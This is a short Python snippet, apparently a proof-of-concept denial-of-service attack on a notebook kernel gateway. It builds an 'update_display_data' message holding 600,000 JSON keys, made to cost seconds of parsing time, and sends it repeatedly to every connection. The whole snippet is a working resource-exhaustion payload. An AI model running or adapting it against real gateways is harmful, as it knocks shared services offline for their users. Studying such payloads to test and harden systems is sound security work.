# Few bytes, but so many keys that parsing and checking them would take seconds of the gateway's time.
keys = ",".join('"%dx":0' % n for n in range(600_000))
message = '{"msg_type":"update_display_data","content":{"data":{%s},"metadata":{},"transient":{}}}' % keys
for _ in range(4):
    send_everywhere(frame(message.encode()))
